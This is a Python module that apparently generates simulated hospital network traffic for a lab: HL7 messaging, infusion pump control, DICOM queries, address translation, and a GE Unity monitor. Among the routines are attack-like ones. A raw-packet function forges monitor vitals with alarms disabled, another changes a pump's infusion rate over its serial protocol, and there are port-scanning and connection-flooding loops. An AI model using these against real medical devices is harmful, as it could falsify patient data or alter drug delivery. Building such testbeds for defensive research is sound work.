"""What runs on the hosts: HL7 senders, receivers and an engine, infusion pumps behind terminal servers, DICOM
applications (pynetdicom), a web page, a router that translates addresses. Patients are invented."""
import binascii, http.server, itertools, multiprocessing, select, socket, struct, threading, time


# --- HL7 over MLLP -------------------------------------------------------------------------------

MLH = "265266^MDC_DIM_MILLI_L_PER_HR^MDC^mL/h^mL/h^UCUM"
ML = "263762^MDC_DIM_MILLI_L^MDC^mL^mL^UCUM"
# One count for all senders, which are processes of their own.
number = multiprocessing.get_context("fork").Value("i", 0)


def control_id(prefix="M"):
    with number.get_lock():
        number.value += 1
        return f"{prefix}{number.value:05d}"


def message(*segments):
    return "\r".join(segments) + "\r"


def header(at, app, facility, to, at_facility, kind, control=None, version="2.6"):
    return f"MSH|^~\\&|{app}|{facility}|{to}|{at_facility}|{at}||{kind}|{control or control_id()}|P|{version}|||AL|NE"


def patient(n):
    return f"PID|1||T9{n:04d}^^^WARDTEST^MR||TEST^PATIENT{chr(65 + n % 26)}^^^^^L||19700101|F"


def admission(at, event, n, bed="ICU^101^A"):
    return message(header(at, "EHR", "HOSP", "PUMPGW", "ICU", f"ADT^{event}^ADT_A01"), f"EVN|{event}|{at}", patient(n),
                   f"PV1|1|I|{bed}")


def merge(at, n, gone):
    return message(header(at, "EHR", "HOSP", "CIS", "HOSP", "ADT^A40^ADT_A39"), f"EVN|A40|{at}", patient(n),
                   f"MRG|T9{gone:04d}^^^WARDTEST^MR")


def result(at, n, order, value, app="LIS"):
    return message(header(at, app, "LAB", "EHR", "HOSP", "ORU^R01^ORU_R01"), patient(n),
                   f"OBR|1|{order}^EHR|L{order}^LIS|2823-3^Potassium^LN|||{at}", f"OBX|1|NM|2823-3^Potassium^LN||{value}|mmol/L|3.5-5.1|N|||F")


def lab_order(at, n, order, control="NW"):
    return message(header(at, "EHR", "HOSP", "LIS", "LAB", "ORM^O01^ORM_O01"), patient(n),
                   f"ORC|{control}|{order}^EHR", f"OBR|1|{order}^EHR||2823-3^Potassium^LN|||{at}")


def infusion(at, n, order, rate, drug="5678^Normal Saline", pump="PUMP-A0001", unit=MLH, control=None, vtbi="500", parent=""):
    return message(header(at, "BCMA^1234560000000001^EUI-64", "HOSP", "PUMPGW^0012211839000001^EUI-64", "ICU", "RGV^O15^RGV_O15", control),
                   patient(n), f"ORC|RE|{order}||||||{parent}|||||||||||N0001",
                   f"RXG|1|||{drug}|{vtbi}||{ML}||||||||{rate}|{unit}", "RXR|IV||IVP",
                   f"OBX|1||69986^MDC_DEV_PUMP_INFUS_VMD^MDC|1.1.0.0|||||||X|||||||{pump}^^0012210000000000^EUI-64")


def infusing(at, n, pump, rate, drug="Normal Saline"):
    """The pump gateway's report (IHE PCD-01)."""
    return message(header(at, "PUMPGW^0012211839000001^EUI-64", "ICU", "CIS", "HOSP", "ORU^R01^ORU_R01"), patient(n),
                   f"OBR|1|{at}^PUMPGW|{at}^PUMPGW^0012211839000001^EUI-64|69985^MDC_DEV_PUMP_INFUS_MDS^MDC|||{at}",
                   f"OBX|1||70049^MDC_DEV_PUMP_INFUS_LVP_MDS^MDC|1.0.0.0|||||||X|||||||{pump}^^0012210000000000^EUI-64",
                   "OBX|2|CWE|184519^MDC_PUMP_INFUSING_STATUS^MDC|1.1.1.1|^pump-status-infusing||||||R",
                   f"OBX|3|NM|158014^MDC_FLOW_FLUID_PUMP_CURRENT^MDC|1.1.1.2|{rate:g}|{MLH}|||||R",
                   f"OBX|4|ST|184514^MDC_DRUG_NAME_LABEL^MDC|1.1.2.10|{drug}||||||R")


def receive(connection, kept=b""):
    """One MLLP block and what came after it; None at the end."""
    while b"\x1c\r" not in kept:
        more = connection.recv(65536)
        if not more:
            return None, b""
        kept += more
    block, _, rest = kept.partition(b"\x1c\r")
    return block.lstrip(b"\x0b"), rest


def acknowledge(block, at, code="AA"):
    f = block.decode().split("\r")[0].split("|")
    kind = "ACK^" + f[8].split("^")[1] + "^ACK"
    return message(f"MSH|^~\\&|{f[4]}|{f[5]}|{f[2]}|{f[3]}|{at}||{kind}|A{f[9]}|P|{f[11]}", f"MSA|{code}|{f[9]}")


def send(connection, text):
    connection.sendall(b"\x0b" + (text if isinstance(text, bytes) else text.encode()) + b"\x1c\r")


def hl7_receiver(lab, ip, port, answer=lambda block, n: "AA"):
    """Answers every message; `answer` may return None: no acknowledgement."""
    count = itertools.count(1)

    def serve(connection):
        rest = b""
        while True:
            block, rest = receive(connection, rest)
            if block is None:
                connection.close()
                return
            code = answer(block, next(count))
            if code:
                send(connection, acknowledge(block, lab.stamp(), code))

    with socket.create_server((ip, port)) as listening:
        while True:
            connection, _ = listening.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


def hl7_engine(lab, ip, port, route):
    """An interface engine: takes a message, acknowledges it, sends the same bytes on. `route(block)`: (address, port)s."""
    lines, lock = {}, threading.Lock()

    def on(block):
        for to in route(block):
            with lock:
                if to not in lines:
                    lines[to] = socket.create_connection(to)
                send(lines[to], block)
                receive(lines[to])

    def serve(connection):
        rest = b""
        while True:
            block, rest = receive(connection, rest)
            if block is None:
                connection.close()
                return
            send(connection, acknowledge(block, lab.stamp()))
            time.sleep(0.05)
            on(block)

    with socket.create_server((ip, port)) as listening:
        while True:
            connection, _ = listening.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


def hl7_sender(lab, to, make, pauses, source=None, resend_after=None):
    """Sends what `make(n)` gives, a pause after each; a list of texts too. Without an answer in `resend_after` real
    seconds the message goes again."""
    with socket.create_connection(to, source_address=(source, 0) if source else None) as s:
        s.settimeout(resend_after)
        for n, pause in enumerate(pauses):
            text = make(n)
            for _ in range(3):
                send(s, text)
                try:
                    receive(s)
                    break
                except TimeoutError:
                    continue
            lab.wait(pause)


def knock(to, tries, pause, timeout=0.4):
    """Tries to connect again and again."""
    for _ in range(tries):
        s = socket.socket()
        s.settimeout(timeout)
        try:
            s.connect(to)
        except OSError:
            pass
        s.close()
        time.sleep(pause)


# --- an infusion pump behind a terminal server (Alaris GH serial protocol) -----------------------

def crc(b):
    return binascii.crc_hqx(b, 0xFFFF)


def frame(text):
    b = text.encode()
    return b"!" + b + b"|%04X\r" % crc(b)


def pump(ip, port, serial="8002-91001", rate=5.0):
    state = dict(rate=rate, run=True, ctrl=False)

    def answer(text):
        a = text.split("^")
        verb = a[0]
        if verb == "INST_SERIALNO":
            return f"INST_SERIALNO^{serial}"
        if verb == "REMOTE_CTRL":
            state["ctrl"] = len(a) > 2 and a[2] == "%04X" % crc(serial.encode())
            return "REMOTE_CTRL^ENABLED^****^%s^0^ms" % ("PERMIT" if state["ctrl"] else "REFUSE")
        if verb == "INF":
            return f"INF^{serial}^-^SET^{state['rate'] if state['run'] else 0:.2f}^ml/h^^1.250^ml^17.91^mmHg^24+^EVENT^1000"
        if verb == "INF_RATE":
            if len(a) > 2 and state["ctrl"]:
                state["rate"] = float(a[1])
            return f"INF_RATE^{state['rate']:.2f}^ml/h"
        if verb in ("INF_START", "INF_STOP"):
            state["run"] = verb == "INF_START"
            return verb
        if verb == "ALARM":
            return "ALARM^AL_NOALM^ ^ "
        return None

    def serve(connection):
        kept = b""
        while True:
            more = connection.recv(4096)
            if not more:
                return
            kept += more
            while b"\r" in kept:
                one, kept = kept.split(b"\r", 1)
                text, _, check = one.lstrip(b"!").rpartition(b"|")
                if check == b"%04X" % crc(text):
                    said = answer(text.decode())
                    if said:
                        connection.sendall(frame(said))

    with socket.create_server((ip, port)) as listening:
        while True:
            connection, _ = listening.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


class PumpLine:
    """A controller's session with a pump."""

    def __init__(self, to, source=None):
        self.s = socket.create_connection(to, source_address=(source, 0) if source else None)
        self.s.settimeout(2)

    def ask(self, text):
        self.s.sendall(frame(text))
        try:
            return self.s.recv(4096)
        except TimeoutError:
            return b""

    def control(self, serial="8002-91001"):
        self.ask("INST_SERIALNO")
        self.ask("REMOTE_CTRL^ENABLED^%04X" % crc(serial.encode()))

    def rate(self, value, serial="8002-91001"):
        self.ask("REMOTE_CTRL^ENABLED^%04X" % crc(serial.encode()))
        self.ask(f"INF_RATE^{value:.2f}^ml/h")
        self.ask("INF")


def poll_many(addresses, port, rounds, pause, source):
    """A gateway that asks every address in its list; those that are off do not answer."""
    for _ in range(rounds):
        waiting = {}
        for ip in addresses:
            s = socket.socket()
            s.bind((source, 0))
            s.setblocking(False)
            s.connect_ex((ip, port))
            waiting[s] = ip
            time.sleep(0.01)
        until = time.time() + 1.2
        while time.time() < until:
            _, ready, _ = select.select([], list(waiting), [], 0.1)
            for s in ready:
                del waiting[s]
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    s.setblocking(True)
                    s.settimeout(1)
                    for verb in ("INF", "ALARM"):
                        s.sendall(frame(verb))
                        s.recv(4096)
                s.close()
        for s in waiting:
            s.close()
        time.sleep(pause)


# --- scans ----------------------------------------------------------------------------------------

def scan(addresses, ports, pause=0.005):
    for port in ports:
        for ip in addresses:
            s = socket.socket()
            s.settimeout(0.05)
            try:
                s.connect((ip, port))
            except OSError:
                pass
            s.close()
            time.sleep(pause)


def web_requests(to, agent, paths, method="GET", body=b"", kind="application/octet-stream"):
    for path in paths:
        with socket.create_connection(to) as s:
            head = f"{method} {path} HTTP/1.1\r\nHost: {to[0]}\r\nUser-Agent: {agent}\r\nConnection: close\r\n"
            if body:
                head += f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
            s.sendall(head.encode() + b"\r\n" + body)
            while s.recv(65536):
                pass


def web_page(ip, port=80, title="Gateway"):
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.answer()

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.answer()

        def answer(self):
            text = f"<html><title>{title}</title></html>".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)

        def log_message(self, *_):
            pass

    http.server.ThreadingHTTPServer((ip, port), Page).serve_forever()


# --- DICOM ----------------------------------------------------------------------------------------

def dataset(**values):
    from pydicom.dataset import Dataset
    ds = Dataset()
    for keyword, value in values.items():
        setattr(ds, keyword, value)
    return ds


def archive(ip, port, title, studies):
    """Answers echo and queries; `studies` matches each."""
    from pynetdicom import AE, evt
    from pynetdicom.sop_class import ModalityWorklistInformationFind, StudyRootQueryRetrieveInformationModelFind, Verification
    ae = AE(ae_title=title)
    for c in (Verification, StudyRootQueryRetrieveInformationModelFind, ModalityWorklistInformationFind):
        ae.add_supported_context(c)

    def find(event):
        asked = event.identifier
        worklist = event.request.AffectedSOPClassUID == ModalityWorklistInformationFind
        for n in range(20 if worklist else studies):
            if worklist:
                step = dataset(ScheduledStationAETitle="CT1", ScheduledProcedureStepStartDate="20261117",
                               ScheduledProcedureStepStartTime=f"{8 + n // 4:02d}{n % 4 * 15:02d}00", Modality="CT",
                               ScheduledProcedureStepID=f"S{n:04d}")
                yield 0xFF00, dataset(PatientName=f"TEST^PATIENT{n}", PatientID=f"T9{n:04d}", AccessionNumber=f"A{n:05d}",
                                      StudyInstanceUID=f"1.2.826.0.1.3680043.9.81.{n}", ScheduledProcedureStepSequence=[step])
            else:
                yield 0xFF00, dataset(QueryRetrieveLevel="STUDY", PatientID=f"T9{n:04d}", StudyDate="20261116",
                                      AccessionNumber=f"A{n:05d}", StudyInstanceUID=f"1.2.826.0.1.3680043.9.81.{n}")

    ae.start_server((ip, port), evt_handlers=[(evt.EVT_C_ECHO, lambda e: 0), (evt.EVT_C_FIND, find)])


def ask_archive(to, calling, called, *queries):
    """`queries`: ("worklist" or "studies", keys)."""
    from pynetdicom import AE
    from pynetdicom.sop_class import ModalityWorklistInformationFind, StudyRootQueryRetrieveInformationModelFind
    models = dict(worklist=ModalityWorklistInformationFind, studies=StudyRootQueryRetrieveInformationModelFind)
    ae = AE(ae_title=calling)
    for m in models.values():
        ae.add_requested_context(m)
    a = ae.associate(*to, ae_title=called)
    for what, keys in queries:
        list(a.send_c_find(keys, models[what]))
    a.release()


def echo(addresses, port, calling, called):
    from pynetdicom import AE
    from pynetdicom.sop_class import Verification
    for ip in addresses:
        ae = AE(ae_title=calling)
        ae.add_requested_context(Verification)
        a = ae.associate(ip, port, ae_title=called)
        if a.is_established:
            a.send_c_echo()
            a.release()


# --- a router that rewrites one address ----------------------------------------------------------

def checksum(b):
    b += b"\0" * (len(b) % 2)
    n = sum(struct.unpack(f">{len(b) // 2}H", b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def translate(inner, outer, neighbours):
    """Sends IP packets on from eth0 (inside) to eth1 (outside) and back, `inner` rewritten to `outer`.
    `neighbours`: address to MAC, on either side."""
    sides = []
    for device in ("eth0", "eth1"):
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        s.bind((device, 0x0800))
        sides.append((s, s.getsockname()[4]))
    inner_b, outer_b = socket.inet_aton(inner), socket.inet_aton(outer)
    while True:
        for s in select.select([x[0] for x in sides], [], [])[0]:
            b, (_, _, kind, _, _) = s.recvfrom(65535)
            outward = s is sides[0][0]
            if kind == socket.PACKET_OUTGOING or b[:6] != sides[0 if outward else 1][1] or b[23] != 6:
                continue
            p = bytearray(b[14:14 + struct.unpack(">H", b[16:18])[0]])
            if outward and p[12:16] == inner_b:
                p[12:16] = outer_b
            elif not outward and p[16:20] == outer_b:
                p[16:20] = inner_b
            to = neighbours.get(socket.inet_ntoa(bytes(p[16:20])))
            if not to:
                continue
            p[8] -= 1
            p[10:12] = b"\0\0"
            p[10:12] = struct.pack(">H", checksum(bytes(p[:20])))
            p[36:38] = b"\0\0"
            pseudo = bytes(p[12:20]) + struct.pack(">BBH", 0, 6, len(p) - 20)
            p[36:38] = struct.pack(">H", checksum(pseudo + bytes(p[20:])))
            out, mac = sides[1 if outward else 0]
            out.send(bytes.fromhex(to.replace(":", "")) + mac + b"\x08\x00" + bytes(p))


# --- a patient monitor and its central station (GE Unity) ----------------------------------------

def monitor(lab, ip, bed, seconds, heart=72):
    """Announces itself, and sends parameters and waveforms to whoever asked in the last 30 s."""
    import unity as u
    def sock(port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.bind((ip, port))
        return s
    params, requests, announce = sock(3011), sock(2000), sock(3028)
    asked, sequence, ends, next_announce = {}, 1, lab.now() + seconds, 0
    broadcast = ip.rsplit(".", 2)[0] + ".255.255"
    while lab.now() < ends:
        if lab.now() >= next_announce:
            announce.sendto(u.enc_discovery(ip, int(lab.now()), "ICU", bed, "TEST"), (broadcast, 7000))
            next_announce = lab.now() + 30
        for to, state in list(asked.items()):
            if lab.now() - state[0] > 60:
                del asked[to]
            elif lab.now() >= state[1]:
                params.sendto(u.enc_params(ip, sequence, entries(heart + sequence % 3, 97)), to)
                sequence, state[1] = sequence + 1, state[1] + 4
        if select.select([requests], [], [], 0.02)[0]:
            b, to = requests.recvfrom(2048)
            if u.decode(b)["kind"] == "request_parameters":
                asked[to] = [lab.now(), asked[to][1] if to in asked else lab.now()]


def entries(heart, saturation):
    return [(0x3A, [heart, 0, 0], [(35, 110), (0, 6), (0, 0)]), (0x2D, [saturation, heart], [(94, 101), (35, 110)])]


def central(lab, ip, monitor_ip, seconds):
    import unity as u
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, 3073))
    ends, due = lab.now() + seconds, 0
    while lab.now() < ends:
        if lab.now() >= due:
            s.sendto(u.enc_request("parameters", "ICU", "CENTRAL"), (monitor_ip, 2000))
            due = lab.now() + 20
        if select.select([s], [], [], 0.02)[0]:
            s.recvfrom(2048)


def forged_vitals(lab, as_ip, to_ip, to_mac, seconds, first=900):
    """Sends parameters in the monitor's name, alarms off, from this host's own station."""
    import unity as u
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind(("eth0", 0x0800))
    own = s.getsockname()[4]
    ends = lab.now() + seconds
    for sequence in itertools.count(first):
        if lab.now() >= ends:
            return
        data = u.enc_params(as_ip, sequence, entries(60, 99), 2, 0)
        udp = struct.pack(">HHHH", 3011, 3073, 8 + len(data), 0) + data
        pseudo = socket.inet_aton(as_ip) + socket.inet_aton(to_ip) + struct.pack(">BBH", 0, 17, len(udp))
        udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp)) + udp[8:]
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), sequence, 0, 64, 17, 0) + socket.inet_aton(as_ip) + socket.inet_aton(to_ip)
        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
        s.send(bytes.fromhex(to_mac.replace(":", "")) + own + b"\x08\x00" + ip + udp)
        lab.wait(4)


# --- remote service --------------------------------------------------------------------------------

def ssh_server(folder, ip):
    import subprocess
    subprocess.run(["/usr/sbin/sshd", "-D", "-e", "-o", f"ListenAddress={ip}", "-o", f"HostKey={folder}/host", "-o", "PidFile=none", "-o", "UsePAM=no",
                    "-o", f"AuthorizedKeysFile={folder}/user.pub", "-o", "StrictModes=no", "-o", "PermitRootLogin=yes"],
                   stderr=subprocess.DEVNULL)


def ssh_client(folder, ip):
    import subprocess
    subprocess.run(["ssh", "-i", f"{folder}/user", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", f"root@{ip}", "uptime"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
